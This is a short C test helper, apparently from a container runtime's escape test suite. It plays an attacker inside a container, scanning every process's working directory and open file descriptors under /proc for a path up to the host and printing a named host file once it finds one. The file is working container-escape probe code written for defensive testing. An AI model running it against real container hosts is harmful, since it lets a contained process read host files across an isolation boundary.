/* An attacker inside a container (test_runtime_escapes.py): scans every process's open fds and working
 * directory, as fast as it can, for a way to the host file NAME one to three levels up, and prints that
 * file once found. A shell loop forks too slowly to see a process that lives a millisecond. Static, so
 * that it runs in the busybox rootfs. Usage: escape-scan NAME */

#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int try_read(const char *base, const char *name) {
        static const char *const ups[] = {"..", "../..", "../../.."};
        char path[1024], buf[256];

        for (size_t i = 0; i < sizeof(ups) / sizeof(ups[0]); i++) {
                int fd;
                ssize_t n;

                snprintf(path, sizeof(path), "%s/%s/%s", base, ups[i], name);
                fd = open(path, O_RDONLY | O_CLOEXEC);
                if (fd < 0)
                        continue;
                n = read(fd, buf, sizeof(buf));
                if (n > 0 && write(STDOUT_FILENO, buf, (size_t) n) == n)
                        return 1;
                close(fd);
        }
        return 0;
}

static int scan_process(const char *pid, const char *name) {
        char path[512];
        struct dirent *e;
        DIR *d;
        int found = 0;

        snprintf(path, sizeof(path), "/proc/%s/cwd", pid);
        if (try_read(path, name))
                return 1;
        snprintf(path, sizeof(path), "/proc/%s/fd", pid);
        d = opendir(path);
        if (!d)
                return 0;
        while (!found && (e = readdir(d))) {
                if (e->d_name[0] == '.')
                        continue;
                snprintf(path, sizeof(path), "/proc/%s/fd/%s", pid, e->d_name);
                found = try_read(path, name);
        }
        closedir(d);
        return found;
}

int main(int argc, char **argv) {
        char self[32];

        if (argc < 2) /* more arguments are the test's marker */
                return 2;
        snprintf(self, sizeof(self), "%d", (int) getpid());
        printf("scanning\n");
        fflush(stdout);
        for (;;) {
                DIR *proc = opendir("/proc");
                struct dirent *e;

                if (!proc)
                        return 1;
                while ((e = readdir(proc)))
                        if (e->d_name[0] >= '0' && e->d_name[0] <= '9' && strcmp(e->d_name, self) != 0 &&
                            scan_process(e->d_name, argv[1]))
                                return 0;
                closedir(proc);
        }
}
